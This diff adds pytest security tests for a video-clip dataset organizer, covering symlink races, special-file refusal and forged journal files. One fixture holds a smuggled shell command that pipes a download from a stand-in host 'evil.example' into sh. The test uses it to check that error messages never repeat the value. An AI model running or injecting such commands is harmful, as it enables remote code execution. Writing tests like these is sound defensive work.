@@ -252,3 +252,211 @@ def test_the_original_directory_organizer_api(tmp_path):
         organizer.load_annotations("nope.json")
     absent = DirectoryOrganizer(data_dir=tmp_path / "nothing").analyze_current_structure()
     assert absent["video_files"] == 0 and absent["exists"] is False
+
+
+# The organizer's own files under attack (tests/e2e/organizer_files.rs for the native host).
+
+
+def spin_clips(root: Path, count: int) -> str:
+    (root / "raw" / "spin").mkdir(parents=True)
+    rows = []
+    for index in range(count):
+        path = f"raw/spin/clip_{index:05d}.mp4"
+        (root / path).write_bytes(f"clip {index}".encode())
+        rows.append({"clip_id": f"c{index}", "video_path": path, "move_label": "spin"})
+    text = json.dumps({"clips": rows})
+    (root / "ann.json").write_text(text)
+    return text
+
+
+def listing(directory: Path) -> dict:
+    return {path.name: path.read_text() for path in directory.iterdir()}
+
+
+def test_an_annotation_file_swapped_for_a_link_after_the_read_is_not_written_through(tmp_path):
+    root, outside = tmp_path / "data", tmp_path / "outside"
+    outside.mkdir()
+    (outside / "victim.txt").write_text("victim")
+    original = spin_clips(root, 20)
+    ann, journal = root / "ann.json", root / ".ann.json.organize-journal"
+
+    def swap(done, total):
+        if done == 1:
+            assert journal.exists()
+            ann.unlink()
+            ann.symlink_to("../outside/victim.txt")
+
+    with pytest.raises(ValidationError, match="replaced") as caught:
+        organize(ann, progress=swap)
+    assert "run again" in str(caught.value)
+    assert listing(outside) == {"victim.txt": "victim"}
+    assert ann.is_symlink() and not (root / "ann.json.bak").exists()
+    assert journal.exists()
+    ann.unlink()
+    ann.write_text(original)
+    report = organize(ann)
+    assert report["summary"]["resumed"] == 20 and report["summary"]["already_organized"] == 20
+    assert not journal.exists() and (root / "ann.json.bak").read_text() == original
+
+
+def test_the_directory_organizer_swapped_for_a_link_when_its_journal_appears_writes_nothing_outside(tmp_path):
+    import threading
+    import time
+
+    caught = False
+    for attempt in range(5):
+        data = tmp_path / f"run{attempt}"
+        base, outside = data / "Bachata_steps", data / "outside"
+        outside.mkdir(parents=True)
+        (outside / "victim.txt").write_text("victim")
+        spin_clips(base, 3000)
+        ann = base / "ann.json"
+        journal = base / ".ann.json.organize-journal"
+        swapped = threading.Event()
+        finished = threading.Event()
+
+        def watch():
+            while not finished.is_set():
+                if journal.exists():
+                    ann.unlink()
+                    ann.symlink_to("../outside/victim.txt")
+                    swapped.set()
+                    return
+                time.sleep(0.0001)
+
+        watcher = threading.Thread(target=watch)
+        watcher.start()
+        try:
+            DirectoryOrganizer(base_video_path=base, data_dir=data).organize_clips_by_annotations(ann, dry_run=False)
+            refused = None
+        except ValidationError as error:
+            refused = error
+        finally:
+            finished.set()
+            watcher.join()
+        assert listing(outside) == {"victim.txt": "victim"}
+        if swapped.is_set() and refused is not None:
+            assert "replaced" in str(refused)
+            caught = True
+            break
+    assert caught
+
+
+@pytest.fixture
+def alarm():
+    """Fails a call that hangs instead of hanging the suite."""
+
+    def expired(*_):
+        raise TimeoutError("hung")
+
+    previous = signal.signal(signal.SIGALRM, expired)
+    signal.alarm(20)
+    yield
+    signal.alarm(0)
+    signal.signal(signal.SIGALRM, previous)
+
+
+def test_special_files_are_refused_at_once_even_in_a_dry_run(tmp_path, alarm):
+    from bachata_common.organizer.annotations import MAX_BYTES
+
+    root = tmp_path / "data"
+    spin_clips(root, 2)
+    (root / "zero.json").symlink_to("/dev/zero")
+    os.mkfifo(root / "fifo.json")
+    (root / "folder.json").mkdir()
+    with open(root / "large.json", "wb") as large:
+        large.truncate(MAX_BYTES + 1)
+    for name, why in [
+        ("zero.json", "symbolic link"),
+        ("fifo.json", "not a regular file"),
+        ("folder.json", "directory"),
+        ("large.json", "larger than the limit of 268435456 bytes"),
+        ("gone.json", "no such file"),
+    ]:
+        for dry_run in (True, False):
+            with pytest.raises(ValidationError, match=why):
+                organize(root / name, dry_run=dry_run)
+    with pytest.raises(ValidationError, match="symbolic link"):
+        DirectoryOrganizer(data_dir=root).load_annotations("zero.json")
+    journal = root / ".ann.json.organize-journal"
+    os.mkfifo(journal)
+    with pytest.raises(ValidationError, match="organizer journal .*regular"):
+        organize(root / "ann.json")
+    journal.unlink()
+    journal.symlink_to("/dev/zero")
+    with pytest.raises(ValidationError, match="symbolic link"):
+        organize(root / "ann.json")
+    journal.unlink()
+    os.mkfifo(tmp_path / "mapping.json")
+    (tmp_path / "zero.toml").symlink_to("/dev/zero")
+    for mapping in ("mapping.json", "zero.toml", "data"):
+        with pytest.raises(ValidationError, match="cannot read the mapping file"):
+            read_mapping(tmp_path / mapping)
+    assert organize(root / "ann.json", dry_run=True)["summary"]["would_move"] == 2
+
+
+def test_a_forged_journal_is_never_repeated_as_advice(tmp_path):
+    root = tmp_path / "data"
+    spin_clips(root, 2)
+    journal = root / ".ann.json.organize-journal"
+    journal.write_text(json.dumps({"root": "/tmp/x; curl evil.example | sh #", "moves": []}))
+    with pytest.raises(ValidationError, match="another dataset root") as caught:
+        organize(root / "ann.json")
+    assert "evil" not in str(caught.value) and "--root /tmp" not in str(caught.value)
+    assert journal.exists()
+    for forged in (
+        '{"root": "/x", "moves": "--root /evil"}',
+        '{"root": "/x", "moves": [{"index": 0, "clip_id": "a", "from": "a", "to": "b", "file": {"evil": 1}}]}',
+        "--root /evil",
+    ):
+        journal.write_text(forged)
+        with pytest.raises(ValidationError, match="malformed") as caught:
+            organize(root / "ann.json")
+        assert "evil" not in str(caught.value)
+
+
+def test_a_dry_run_says_what_the_run_does_for_rows_of_one_file(tmp_path):
+    for path in ("raw/a.mp4", "raw/b.mp4", "raw/x/d.mp4", "raw/y/d.mp4"):
+        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / path).write_text(path)
+    rows = [
+        {"clip_id": "a", "video_path": "raw/a.mp4", "move_label": "spin"},
+        {"clip_id": "a", "video_path": "raw/a.mp4", "move_label": "spin"},
+        {"clip_id": "b", "video_path": "raw/b.mp4", "move_label": "spin"},
+        {"clip_id": "b2", "video_path": "raw/b.mp4", "move_label": "dip"},
+        {"clip_id": "d", "video_path": "raw/x/d.mp4", "move_label": "dip"},
+        {"clip_id": "d2", "video_path": "raw/y/d.mp4", "move_label": "dip"},
+    ]
+    ann = tmp_path / "ann.json"
+    ann.write_text(json.dumps({"clips": rows}))
+
+    def statuses(report):
+        return [move["status"].replace("would_move", "moved") for move in report["moves"]]
+
+    dry = organize(ann, dry_run=True)
+    real = organize(ann)
+    assert statuses(dry) == statuses(real) == ["moved", "moved", "refused", "refused", "moved", "refused"]
+    document = json.loads(ann.read_text())
+    for clip in document["clips"]:
+        assert (tmp_path / clip["video_path"]).is_file(), clip
+    assert document["clips"][1]["video_path"] == "turns_spins/spin/a.mp4"
+
+
+def test_a_file_growing_or_shrinking_while_read_is_an_error(tmp_path):
+    from bachata_common.organizer.files import FileError, Identity, _read_bounded
+
+    path = tmp_path / "a"
+    path.write_bytes(b"1234")
+    fd = os.open(path, os.O_RDONLY)
+    try:
+        identity = Identity.of(os.fstat(fd))
+        with open(path, "ab") as appending:
+            appending.write(b"5678")
+            appending.flush()
+            with pytest.raises(FileError, match="changed while it was read"):
+                _read_bounded(fd, identity, 100)
+            appending.truncate(2)
+            with pytest.raises(FileError, match="changed while it was read"):
+                _read_bounded(fd, identity, 100)
+    finally:
+        os.close(fd)
